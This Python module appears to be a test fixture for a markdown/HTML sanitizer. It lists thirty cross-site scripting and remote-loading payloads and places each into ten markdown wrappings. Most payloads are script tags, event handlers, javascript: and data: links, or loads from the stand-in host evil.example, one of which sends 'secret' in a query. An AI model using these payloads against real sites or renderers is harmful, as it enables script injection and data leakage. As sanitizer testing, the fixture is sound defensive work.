"""Three hundred ways in which text tries to become script or to send something away: thirty, in ten wrappings."""

from __future__ import annotations

EVIL = "http://evil.example"
PAYLOADS = [
    "<script>window.ran=1</script>",
    f"<script src={EVIL}/a.js></script>",
    "<img src=x onerror=window.ran=1>",
    f"<img src={EVIL}/a.png>",
    f"<img srcset='{EVIL}/a.png 1x'>",
    "<svg onload=window.ran=1>",
    "<svg><script>window.ran=1</script></svg>",
    f"<svg><image href={EVIL}/a.svg /></svg>",
    f"<iframe src={EVIL}></iframe>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    f"<link rel=stylesheet href={EVIL}/a.css>",
    f"<style>@import '{EVIL}/a.css';</style>",
    f"<p style='background:url({EVIL}/a.png)'>x</p>",
    f"<video poster={EVIL}/a.png src={EVIL}/a.mp4 autoplay></video>",
    f"<audio src={EVIL}/a.mp3 autoplay></audio>",
    f"<object data={EVIL}/a.swf></object>",
    f"<form action={EVIL}><input autofocus onfocus=window.ran=1></form>",
    "<details open ontoggle=window.ran=1>x</details>",
    f"<meta http-equiv=refresh content='0;url={EVIL}'>",
    f"<base href={EVIL}/>",
    f"![x]({EVIL}/a.png)",
    f"![x][r]\n\n[r]: {EVIL}/a.png",
    f"[![x]({EVIL}/a.png)]({EVIL}/b)",
    "[x](javascript:window.ran=1)",
    "[x](JaVaScRiPt&#58;window.ran=1)",
    "[x](data:text/html,<script>parent.ran=1</script>)",
    f"[x]({EVIL}/?q=secret)",
    f"<{EVIL}/auto>",
    "$\\href{javascript:window.ran=1}{x}\\includegraphics{http://evil.example/a.png}$",
    "<math><mtext><img src=x onerror=window.ran=1></mtext></math>",
]
WRAPPINGS = [
    "{}",
    "Words before {} and after [1].",
    "- one\n- {}\n- three",
    "1. {}\n2. two",
    "| a | b |\n|---|---|\n| {} | c |",
    "> {}",
    "## {}",
    "**{}** and *{}*",
    "```html\n{}\n```",
    "[a {} b](https://book.example/x)",
]


def payloads() -> list[str]:
    return [wrapping.replace("{}", payload) for payload in PAYLOADS for wrapping in WRAPPINGS]
